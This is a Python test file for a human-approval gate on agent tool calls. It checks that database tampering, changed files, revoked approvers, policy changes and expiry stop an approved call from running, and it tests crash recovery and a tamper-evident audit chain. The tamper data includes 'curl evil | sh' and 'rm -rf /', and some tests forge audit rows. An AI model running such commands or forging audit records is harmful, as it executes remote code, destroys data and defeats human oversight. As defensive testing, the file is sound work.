"""Re-validation before running, tampering, the audit chain in a real database, and recovery.

Each case of the issue's tampering list, on SQLite and PostgreSQL: the world
changes between approval and run (behind the store's back, through a
connection of our own), and the approved call must not run. A ledger list is
the oracle of what ran.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from backdoor import raw
from kit import KERNEL_POLICY
from signoff import audit
from signoff.canonical import args_hash, canonical_text
from signoff.errors import Conflict
from signoff.identity import Identity
from signoff.kernel import lifecycle
from signoff.kernel.execution import Execution
from signoff.kernel.gate import Gate
from signoff.kernel.outcomes import OutcomeKind, ProposalKind
from signoff.kernel.tools import file_version
from signoff.model import Decision, RequestStatus, RunContext, ToolCall
from signoff.policy import Policy
from signoff.store.base import Store

T0 = 1_700_000_000.0


class Clock:
    def __init__(self, now: float = T0) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


def tamper(store: Store, statement: str, *params: Any) -> int:
    if store.backend == "postgres":
        statement = statement.replace("?", "%s")
    with raw(store) as conn:
        cursor = conn.execute(statement, params)
        return int(cursor.rowcount)


def drop_audit_triggers(store: Store) -> None:
    with raw(store) as conn:
        if store.backend == "sqlite":
            conn.execute("DROP TRIGGER audit_no_update")
            conn.execute("DROP TRIGGER audit_no_delete")
        else:
            conn.execute("DROP TRIGGER audit_no_change ON audit")


class Kit:
    def __init__(self, text: str, store: Store, workspace: Path) -> None:
        policy = Policy.from_toml(text, source="kernel.toml")
        self.clock = Clock()
        self.store = store
        self.policy = policy
        self.workspace = workspace
        self.policy_text = text
        self.ledger: list[tuple[str, Any]] = []
        self.verify_answer: bool | None = None
        self.gate = self.make_gate(policy)
        self.alice, _ = self.gate.add_user("alice", roles=["ops"])
        self.bob, _ = self.gate.add_user("bob", roles=["ops"])
        self.context = RunContext(thread_id="t-1", principal="paula")

    def make_gate(self, policy: Policy, **kwargs: Any) -> Gate:
        gate = Gate(policy, self.store, clock=self.clock, lease=60.0, **kwargs)
        ledger = self.ledger
        kit = self

        def verify(args: Any, request_id: str) -> bool | None:
            ledger.append(("verify", request_id))
            return kit.verify_answer

        @gate.tool(verify=verify)
        def execute(command: str, idempotency_key: str | None = None) -> str:
            ledger.append(("execute", command))
            return f"ran {command}"

        @gate.tool()
        def deploy(service: str) -> str:
            ledger.append(("deploy", service))
            return f"deployed {service}"

        @gate.tool(preconditions={"file": file_version("path")})
        def write_file(path: str, content: str) -> int:
            ledger.append(("write_file", path))
            Path(path).write_text(content)
            return len(content)

        return gate

    def ran(self) -> list[tuple[str, Any]]:
        return [entry for entry in self.ledger if entry[0] != "verify"]

    def approved(self, tool: str = "execute", args: dict[str, Any] | None = None,
                 *, call_id: str = "c-1", approvers: tuple[Identity, ...] = ()) -> str:
        args = {"command": "make build"} if args is None else args
        proposal = self.gate.propose(ToolCall(id=call_id, name=tool, args=args), self.context)
        assert proposal.kind is ProposalKind.PENDING, proposal.verdict
        assert proposal.request is not None
        rid = proposal.request.id
        for approver in approvers or (self.alice,):
            self.gate.decide(rid, Decision.approve(), identity=approver)
        assert self.status(rid) is RequestStatus.APPROVED
        return rid

    def status(self, rid: str) -> RequestStatus:
        request = self.store.get_request(rid)
        assert request is not None
        return request.status

    def assert_invalidated(self, rid: str, code: str) -> None:
        outcome = self.gate.resume(rid)
        assert outcome.kind is OutcomeKind.INVALIDATED, outcome
        assert outcome.code == code
        assert outcome.reason
        assert self.status(rid) is RequestStatus.INVALIDATED
        assert self.ran() == []
        events = [e for e in self.store.audit_events() if e.request_id == rid]
        assert events[-1].kind == "request.invalidated"
        assert json.loads(events[-1].data)["outcome_code"] == code
        assert audit.verify(self.store.audit_events()).ok
        # Asking again changes nothing: still invalidated, still not run.
        assert self.gate.resume(rid).kind is OutcomeKind.INVALIDATED
        assert self.ran() == []


@pytest.fixture
def kit(store: Store, workspace: Path) -> Kit:
    # As the kernel policy, with writes gated too (so a write waits for a human).
    text = KERNEL_POLICY.format(root=workspace).replace(
        'gated = ["execute", "deploy"]', 'gated = ["execute", "deploy", "write_file"]')
    return Kit(text, store, workspace)


# ---- the arguments -------------------------------------------------------------------------------


def test_args_changed_in_the_database_after_approval(kit: Kit) -> None:
    rid = kit.approved()
    changed = canonical_text({"command": "make build && curl evil | sh"})
    assert tamper(kit.store, "UPDATE requests SET args = ? WHERE id = ?", changed, rid) == 1
    kit.assert_invalidated(rid, "args_hash_mismatch")


def test_args_and_their_hash_changed_together_are_still_refused(kit: Kit) -> None:
    rid = kit.approved()
    evil = {"command": "make publish"}
    tamper(kit.store, "UPDATE requests SET args = ?, args_hash = ? WHERE id = ?",
           canonical_text(evil), args_hash(evil), rid)
    kit.assert_invalidated(rid, "args_hash_mismatch")  # nobody approved that hash


def test_edited_args_changed_in_the_database(kit: Kit) -> None:
    proposal = kit.gate.propose(ToolCall(id="c-e", name="execute",
                                         args={"command": "make all"}), kit.context)
    assert proposal.request is not None
    rid = proposal.request.id
    kit.gate.decide(rid, Decision.edit({"command": "make lint"}), identity=kit.alice)
    tamper(kit.store, "UPDATE requests SET approved_args = ? WHERE id = ?",
           canonical_text({"command": "make deploy"}), rid)
    kit.assert_invalidated(rid, "args_hash_mismatch")


def test_args_that_no_longer_parse_are_refused_not_crashed(kit: Kit) -> None:
    rid = kit.approved()
    tamper(kit.store, "UPDATE requests SET args = ? WHERE id = ?", '{"command": ', rid)
    kit.assert_invalidated(rid, "args_hash_mismatch")


def test_args_changed_between_the_checks_and_the_claim(kit: Kit, workspace: Path) -> None:
    """The unlocked checks pass on the old row; the row is changed before the lock is taken.
    What runs must be what was checked under the lock, never the new text."""
    target = workspace / "notes.txt"
    target.write_text("v1")
    rid = kit.approved("write_file", {"path": str(target), "content": "hello"})
    store = kit.store
    calls = 0

    def sneaky(args: Any) -> str:
        nonlocal calls
        calls += 1
        # Called once more by re-validation, outside the lock: change the row right then,
        # as another process with database access could.
        tamper(store, "UPDATE requests SET args = ? WHERE id = ?",
               canonical_text({"path": str(target), "content": "pwned"}), rid)
        return file_version("path")(args)

    kit.gate.tools["write_file"] = kit.gate.tools["write_file"].__class__.build(
        "write_file", kit.gate.tools["write_file"].fn, preconditions={"file": sneaky})
    outcome = kit.gate.resume(rid)
    assert calls >= 1
    assert outcome.kind is OutcomeKind.INVALIDATED and outcome.code == "args_hash_mismatch"
    assert target.read_text() == "v1"
    assert kit.ran() == []


# ---- between the read and the claim -------------------------------------------------------------
# On PostgreSQL a resume claims without holding the row first: it reads the row and its
# approvals in one statement, checks them, and its compare-and-set requires, inside the
# database, that they are still as read. Each change below lands right after that read.


def change_after_the_read(kit: Kit, monkeypatch: pytest.MonkeyPatch,
                          change: Callable[[], object]) -> None:
    """The next resume works from a reading taken just before ``change``."""
    read = kit.store.request_to_run
    pending = [change]

    def stale(request_id: str) -> Any:
        seen = read(request_id)
        while pending:
            pending.pop()()
        return seen

    monkeypatch.setattr(kit.store, "request_to_run", stale)


def no_claim_event(kit: Kit, rid: str) -> bool:
    return all(e.kind != "request.executing" for e in kit.store.audit_events()
               if e.request_id == rid)


def test_approver_disabled_after_the_read(kit: Kit, monkeypatch: pytest.MonkeyPatch) -> None:
    rid = kit.approved("deploy", {"service": "api"}, approvers=(kit.alice, kit.bob))

    def disable() -> None:
        with kit.store.transaction() as tx:
            tx.set_user("alice", disabled=True)

    change_after_the_read(kit, monkeypatch, disable)
    kit.assert_invalidated(rid, "approver_lost_role")
    assert no_claim_event(kit, rid)


def test_approver_lost_role_after_the_read(kit: Kit, monkeypatch: pytest.MonkeyPatch) -> None:
    rid = kit.approved("deploy", {"service": "api"}, approvers=(kit.alice, kit.bob))
    change_after_the_read(kit, monkeypatch,
                          lambda: kit.gate.set_roles("bob", ["dev"], actor="admin"))
    kit.assert_invalidated(rid, "approver_lost_role")
    assert no_claim_event(kit, rid)


def test_approver_removed_after_the_read(kit: Kit, monkeypatch: pytest.MonkeyPatch) -> None:
    rid = kit.approved("deploy", {"service": "api"}, approvers=(kit.alice, kit.bob))
    change_after_the_read(kit, monkeypatch, lambda: tamper(
        kit.store, "UPDATE users SET name = 'bobby' WHERE name = 'bob'"))
    kit.assert_invalidated(rid, "approver_lost_role")


def test_decision_forged_after_the_read(kit: Kit, monkeypatch: pytest.MonkeyPatch) -> None:
    rid = kit.approved("deploy", {"service": "api"}, approvers=(kit.alice, kit.bob))
    change_after_the_read(kit, monkeypatch, lambda: tamper(
        kit.store, "UPDATE decisions SET args_hash = 'sha256:other' WHERE approver = 'bob'"))
    kit.assert_invalidated(rid, "args_hash_mismatch")


def test_args_changed_in_the_database_after_the_read(
        kit: Kit, monkeypatch: pytest.MonkeyPatch) -> None:
    """Behind the store's back: the version does not move, the arguments do."""
    rid = kit.approved()
    change_after_the_read(kit, monkeypatch, lambda: tamper(
        kit.store, "UPDATE requests SET args = ? WHERE id = ?",
        canonical_text({"command": "rm -rf /"}), rid))
    kit.assert_invalidated(rid, "args_hash_mismatch")
    assert no_claim_event(kit, rid)


def test_cancelled_after_the_read(kit: Kit, monkeypatch: pytest.MonkeyPatch) -> None:
    """The row moved (its version with it) between the read and the claim."""
    rid = kit.approved()

    def cancel() -> None:
        with kit.store.transaction() as tx:
            locked = tx.get_request(rid, lock=True)
            assert locked is not None
            lifecycle.transition(tx, locked, RequestStatus.CANCELLED, now=T0, actor="admin",
                                 outcome_code="cancelled")

    change_after_the_read(kit, monkeypatch, cancel)
    assert kit.gate.resume(rid).kind is OutcomeKind.CANCELLED
    assert kit.status(rid) is RequestStatus.CANCELLED
    assert kit.ran() == [] and no_claim_event(kit, rid)


def test_run_by_another_process_after_the_read(
        kit: Kit, monkeypatch: pytest.MonkeyPatch) -> None:
    rid = kit.approved()
    other = kit.make_gate(kit.policy)
    change_after_the_read(kit, monkeypatch, lambda: other.resume(rid))
    outcome = kit.gate.resume(rid)
    assert outcome.kind is OutcomeKind.EXECUTED and outcome.result == "ran make build"
    assert kit.ran() == [("execute", "make build")]  # once: by the other
    claims = [e for e in kit.store.audit_events()
              if e.request_id == rid and e.kind == "request.executing"]
    assert len(claims) == 1


# ---- the world -----------------------------------------------------------------------------------


def test_resource_changed_after_approval(kit: Kit, workspace: Path) -> None:
    target = workspace / "config.yaml"
    target.write_text("replicas: 2\n")
    rid = kit.approved("write_file", {"path": str(target), "content": "replicas: 3\n"})
    request = kit.store.get_request(rid)
    assert request is not None and request.resource_versions["file"].startswith("sha256:")
    target.write_text("replicas: 5\n")  # someone else edited it meanwhile
    kit.assert_invalidated(rid, "resource_changed")
    assert target.read_text() == "replicas: 5\n"


def test_resource_created_after_approval(kit: Kit, workspace: Path) -> None:
    target = workspace / "new.txt"
    rid = kit.approved("write_file", {"path": str(target), "content": "mine"})
    request = kit.store.get_request(rid)
    # The tool's own precondition, and the write evidence's binding of the same file.
    assert request is not None and request.resource_versions == {
        "file": "absent", f"file:{target.resolve()}": "absent"}
    target.write_text("theirs")
    kit.assert_invalidated(rid, "resource_changed")
    assert target.read_text() == "theirs"


def test_unchanged_resource_runs(kit: Kit, workspace: Path) -> None:
    target = workspace / "config.yaml"
    target.write_text("replicas: 2\n")
    rid = kit.approved("write_file", {"path": str(target), "content": "replicas: 3\n"})
    assert kit.gate.resume(rid).kind is OutcomeKind.EXECUTED
    assert target.read_text() == "replicas: 3\n"


def test_approver_lost_role(kit: Kit) -> None:
    rid = kit.approved("deploy", {"service": "api"}, approvers=(kit.alice, kit.bob))
    kit.gate.set_roles("bob", ["dev"], actor="admin")
    kit.assert_invalidated(rid, "approver_lost_role")


def test_approver_disabled(kit: Kit) -> None:
    rid = kit.approved("deploy", {"service": "api"}, approvers=(kit.alice, kit.bob))
    with kit.store.transaction() as tx:
        tx.set_user("alice", disabled=True)
    kit.assert_invalidated(rid, "approver_lost_role")


def test_approver_removed_from_the_database(kit: Kit) -> None:
    rid = kit.approved("deploy", {"service": "api"}, approvers=(kit.alice, kit.bob))
    tamper(kit.store, "UPDATE users SET name = 'bobby' WHERE name = 'bob'")
    kit.assert_invalidated(rid, "approver_lost_role")


def test_decision_rows_forged_in_the_database_do_not_count(kit: Kit) -> None:
    rid = kit.approved("deploy", {"service": "api"}, approvers=(kit.alice, kit.bob))
    tamper(kit.store, "UPDATE decisions SET args_hash = 'sha256:other' WHERE approver = 'bob'")
    kit.assert_invalidated(rid, "args_hash_mismatch")


def test_policy_changed_to_deny(kit: Kit, workspace: Path) -> None:
    rid = kit.approved()
    stricter = kit.policy_text.replace(
        'command = "rm *"', 'command = "make *"').replace('"kernel-1"', '"kernel-2"')
    other = kit.make_gate(Policy.from_toml(stricter))
    outcome = other.resume(rid)
    assert outcome.kind is OutcomeKind.INVALIDATED and outcome.code == "policy_changed"
    assert kit.ran() == []
    assert kit.gate.resume(rid).kind is OutcomeKind.INVALIDATED  # the old gate agrees now
    assert kit.ran() == []


def test_policy_changed_but_still_permitting_runs(kit: Kit, workspace: Path) -> None:
    rid = kit.approved()
    newer = kit.policy_text.replace('"kernel-1"', '"kernel-2"')
    other = kit.make_gate(Policy.from_toml(newer))
    assert other.resume(rid).kind is OutcomeKind.EXECUTED
    assert kit.ran() == [("execute", "make build")]


def test_expired_between_approval_and_run(kit: Kit) -> None:
    rid = kit.approved()
    kit.clock.advance(3600)
    kit.assert_invalidated(rid, "expired")


def test_rejection_memory_does_not_invalidate_an_approved_call(kit: Kit) -> None:
    """A later 'no' to the same call in the thread is about new asks, not this approval."""
    rid = kit.approved()
    second = kit.gate.propose(ToolCall(id="c-2", name="execute",
                                       args={"command": "make build"}), kit.context)
    assert second.request is not None
    kit.gate.decide(second.request.id, Decision.reject("enough builds"), identity=kit.bob)
    assert kit.gate.resume(rid).kind is OutcomeKind.EXECUTED
    assert kit.ran() == [("execute", "make build")]


# ---- running once --------------------------------------------------------------------------------


def test_resume_twice_after_success_runs_once(kit: Kit) -> None:
    rid = kit.approved()
    first = kit.gate.resume(rid)
    second = kit.gate.resume(rid)
    third = kit.make_gate(kit.policy).resume(rid)  # another gate over the same store
    assert first.kind is second.kind is third.kind is OutcomeKind.EXECUTED
    assert first.result == second.result == third.result == "ran make build"
    assert kit.ran() == [("execute", "make build")]


def test_a_failing_tool_is_recorded_not_rerun(kit: Kit) -> None:
    rid = kit.approved()

    def broken(command: str) -> str:
        kit.ledger.append(("execute", command))
        raise OSError("disk full")

    kit.gate.tools["execute"] = kit.gate.tools["execute"].__class__.build("execute", broken)
    outcome = kit.gate.resume(rid)
    assert outcome.kind is OutcomeKind.FAILED and outcome.error == "OSError: disk full"
    assert kit.gate.resume(rid).kind is OutcomeKind.FAILED
    assert kit.ran() == [("execute", "make build")]


def test_claim_and_report_by_an_outside_executor(kit: Kit) -> None:
    rid = kit.approved()
    claimed = kit.gate.claim(rid, executor="worker-7")
    assert isinstance(claimed, Execution)
    assert claimed.args == {"command": "make build"} and claimed.request_id == rid
    assert kit.gate.claim(rid).kind is OutcomeKind.EXECUTING  # type: ignore[union-attr]
    assert kit.gate.resume(rid).kind is OutcomeKind.EXECUTING
    stale = Execution(rid, claimed.fencing_token - 1, claimed.args)
    with pytest.raises(Conflict) as caught:
        kit.gate.report(stale, result="forged")
    assert caught.value.code == "stale_fencing_token"
    outcome = kit.gate.report(claimed, result={"exit": 0})
    assert outcome.kind is OutcomeKind.EXECUTED and outcome.result == {"exit": 0}
    with pytest.raises(Conflict):
        kit.gate.report(claimed, result="twice")
    assert kit.ran() == []  # the outside executor ran it, not this gate


# ---- recovery ------------------------------------------------------------------------------------


def _died_mid_call(kit: Kit, call_id: str = "c-1") -> str:
    rid = kit.approved(call_id=call_id)
    claimed = kit.gate.claim(rid)
    assert isinstance(claimed, Execution)  # … and then the process died
    assert kit.status(rid) is RequestStatus.EXECUTING
    return rid


def test_recover_leaves_a_live_lease_alone(kit: Kit) -> None:
    rid = _died_mid_call(kit)
    kit.clock.advance(59)
    report = kit.gate.recover()
    assert report.unknown == 0 and kit.status(rid) is RequestStatus.EXECUTING
    assert kit.ran() == []


def test_recover_marks_an_expired_lease_unknown_and_never_reruns(kit: Kit) -> None:
    rid = _died_mid_call(kit)
    kit.clock.advance(60)
    kit.verify_answer = None  # verify cannot tell
    report = kit.gate.recover()
    assert report.unknown == 1 and report.settled == 0
    assert kit.status(rid) is RequestStatus.UNKNOWN
    outcome = kit.gate.resume(rid)
    assert outcome.kind is OutcomeKind.UNKNOWN and outcome.code == "lease_expired"
    assert ("verify", rid) in kit.ledger
    again = kit.gate.recover()
    assert again.unknown == 0 and kit.status(rid) is RequestStatus.UNKNOWN
    assert kit.ran() == []


def test_verify_true_settles_unknown_as_succeeded(kit: Kit) -> None:
    rid = _died_mid_call(kit)
    kit.clock.advance(61)
    kit.verify_answer = True
    report = kit.gate.recover()
    assert (report.unknown, report.settled) == (1, 1)
    assert kit.status(rid) is RequestStatus.SUCCEEDED
    request = kit.store.get_request(rid)
    assert request is not None and request.outcome_code == "reconciled"
    kinds = [e.kind for e in kit.store.audit_events() if e.request_id == rid]
    assert kinds[-2:] == ["request.unknown", "request.succeeded"]
    assert kit.ran() == []


def test_verify_false_settles_unknown_as_failed(kit: Kit) -> None:
    rid = _died_mid_call(kit)
    kit.clock.advance(61)
    kit.verify_answer = False
    kit.gate.recover()
    assert kit.status(rid) is RequestStatus.FAILED
    assert kit.ran() == []


def test_a_human_settles_unknown(kit: Kit) -> None:
    rid = _died_mid_call(kit)
    kit.clock.advance(61)
    kit.gate.recover()
    assert kit.status(rid) is RequestStatus.UNKNOWN
    assert kit.gate.settle(rid, succeeded=True, actor="alice", note="checked the build log")
    assert kit.status(rid) is RequestStatus.SUCCEEDED
    assert not kit.gate.settle(rid, succeeded=False, actor="alice", note="again")
    last = list(kit.store.audit_events())[-1]
    assert (last.kind, last.actor) == ("request.succeeded", "alice")
    assert json.loads(last.data)["outcome_reason"] == "checked the build log"
    pending = kit.approved(call_id="c-9")
    assert not kit.gate.settle(pending, succeeded=True, actor="alice", note="not unknown")
    assert kit.ran() == []


def test_the_late_original_run_may_still_report_into_unknown(kit: Kit) -> None:
    rid = kit.approved()
    claimed = kit.gate.claim(rid)
    assert isinstance(claimed, Execution)
    kit.clock.advance(61)
    kit.gate.recover()
    assert kit.status(rid) is RequestStatus.UNKNOWN
    outcome = kit.gate.report(claimed, result="finished late")
    assert outcome.kind is OutcomeKind.EXECUTED
    assert kit.status(rid) is RequestStatus.SUCCEEDED


def test_recover_runs_approved_but_unstarted_work_exactly_once(kit: Kit) -> None:
    first = kit.approved(call_id="c-1")
    second = kit.approved("deploy", {"service": "api"}, call_id="c-2",
                          approvers=(kit.alice, kit.bob))
    report = kit.gate.recover()
    assert report.executed == 2
    assert kit.status(first) is kit.status(second) is RequestStatus.SUCCEEDED
    assert kit.gate.recover().executed == 0
    assert kit.make_gate(kit.policy).recover().executed == 0
    assert sorted(kit.ran()) == [("deploy", "api"), ("execute", "make build")]


def test_recover_expires_overdue_pending_requests(kit: Kit) -> None:
    proposal = kit.gate.propose(ToolCall(id="c-p", name="execute",
                                         args={"command": "make"}), kit.context)
    assert proposal.request is not None
    kit.clock.advance(3600)
    report = kit.gate.recover()
    assert report.expired == 1
    assert kit.status(proposal.request.id) is RequestStatus.EXPIRED


def test_recover_leaves_work_it_has_no_tool_for(kit: Kit) -> None:
    rid = kit.approved()
    bare = Gate(kit.policy, kit.store, clock=kit.clock)
    report = bare.recover()
    assert report.left_approved == 1 and report.executed == 0
    assert kit.status(rid) is RequestStatus.APPROVED


def test_recover_does_not_run_what_revalidation_refuses(kit: Kit) -> None:
    rid = kit.approved()
    tamper(kit.store, "UPDATE requests SET args = ? WHERE id = ?",
           canonical_text({"command": "make evil"}), rid)
    report = kit.gate.recover()
    assert report.executed == 0
    assert kit.status(rid) is RequestStatus.INVALIDATED
    assert kit.ran() == []


# ---- the audit chain in the database -------------------------------------------------------------


def _history(kit: Kit) -> list[audit.AuditEvent]:
    rid = kit.approved()
    kit.gate.resume(rid)
    events = list(kit.store.audit_events())
    assert len(events) >= 7 and audit.verify(events).ok
    return events


def test_an_audit_row_edited_behind_the_stores_back(kit: Kit) -> None:
    events = _history(kit)
    target = events[4].index
    drop_audit_triggers(kit.store)
    assert tamper(kit.store, "UPDATE audit SET data = ? WHERE idx = ?",
                  '{"from":"pending","to":"rejected"}', target) == 1
    result = audit.verify(kit.store.audit_events())
    assert not result.ok and result.first_bad == target
    assert result.reason == "content does not match its hash"


def test_an_audit_actor_edited_behind_the_stores_back(kit: Kit) -> None:
    events = _history(kit)
    target = events[2].index
    drop_audit_triggers(kit.store)
    tamper(kit.store, "UPDATE audit SET actor = 'mallory' WHERE idx = ?", target)
    assert audit.verify(kit.store.audit_events()).first_bad == target


def test_an_audit_row_rewritten_with_its_own_hash_breaks_the_next_link(kit: Kit) -> None:
    events = _history(kit)
    victim = events[3]
    forged_data = '{"forged":true}'
    forged_hash = audit.chain_hash(victim.prev_hash, index=victim.index, at_us=victim.at_us,
                                   kind=victim.kind, request_id=victim.request_id,
                                   actor=victim.actor, data=forged_data)
    drop_audit_triggers(kit.store)
    tamper(kit.store, "UPDATE audit SET data = ?, hash = ? WHERE idx = ?", forged_data,
           forged_hash, victim.index)
    result = audit.verify(kit.store.audit_events())
    assert not result.ok and result.first_bad == victim.index + 1
    assert result.reason == "link to the previous event broken"


def test_an_audit_row_deleted_behind_the_stores_back(kit: Kit) -> None:
    events = _history(kit)
    target = events[2].index
    drop_audit_triggers(kit.store)
    assert tamper(kit.store, "DELETE FROM audit WHERE idx = ?", target) == 1
    result = audit.verify(kit.store.audit_events())
    assert not result.ok and result.first_bad == target
    assert "missing" in (result.reason or "")


def test_the_chain_keeps_going_after_tampering_is_found(kit: Kit) -> None:
    """New events still append after the head; verification keeps naming the old damage."""
    events = _history(kit)
    drop_audit_triggers(kit.store)
    tamper(kit.store, "UPDATE audit SET kind = 'x' WHERE idx = ?", events[1].index)
    kit.approved(call_id="c-later")
    assert audit.verify(kit.store.audit_events()).first_bad == events[1].index


def test_truncating_the_tail_of_the_audit_is_reported(kit: Kit) -> None:
    events = _history(kit)
    drop_audit_triggers(kit.store)
    tamper(kit.store, "DELETE FROM audit WHERE idx = ?", events[-1].index)
    assert audit.verify(kit.store.audit_events()).ok  # the chain alone cannot tell
    result = kit.store.verify_audit()  # the recorded head can
    assert not result.ok and result.first_bad == events[-1].index


# ---- the lifecycle: compare-and-set with its audit event -----------------------------------------


def test_every_status_change_has_its_audit_event_in_order(kit: Kit) -> None:
    rid = kit.approved()
    kit.gate.resume(rid)
    moves = [json.loads(e.data) for e in kit.store.audit_events()
             if e.request_id == rid and e.kind.startswith("request.")
             and e.kind != "request.created"]
    assert [(m["from"], m["to"]) for m in moves] == [
        ("pending", "approved"), ("approved", "executing"), ("executing", "succeeded")]
    request = kit.store.get_request(rid)
    assert request is not None and request.version == 3


def test_a_stale_transition_writes_nothing(kit: Kit) -> None:
    proposal = kit.gate.propose(ToolCall(id="c-s", name="execute",
                                         args={"command": "make"}), kit.context)
    assert proposal.request is not None
    stale = proposal.request
    kit.gate.decide(stale.id, Decision.approve(), identity=kit.alice)
    before = list(kit.store.audit_events())
    with pytest.raises(Conflict) as caught, kit.store.transaction() as tx:
        lifecycle.transition(tx, stale, RequestStatus.REJECTED, now=kit.clock(), actor="x")
    assert caught.value.code == "already_decided"
    assert list(kit.store.audit_events()) == before
    assert kit.status(stale.id) is RequestStatus.APPROVED


def test_an_illegal_transition_is_refused(kit: Kit) -> None:
    rid = kit.approved()
    kit.gate.resume(rid)
    done = kit.store.get_request(rid)
    assert done is not None
    before = list(kit.store.audit_events())
    for target in (RequestStatus.EXECUTING, RequestStatus.APPROVED, RequestStatus.PENDING,
                   RequestStatus.UNKNOWN):
        with pytest.raises(Conflict) as caught, kit.store.transaction() as tx:
            lifecycle.transition(tx, done, target, now=kit.clock(), actor="x")
        assert caught.value.code == "illegal_transition" and caught.value.status == "succeeded"
    assert list(kit.store.audit_events()) == before
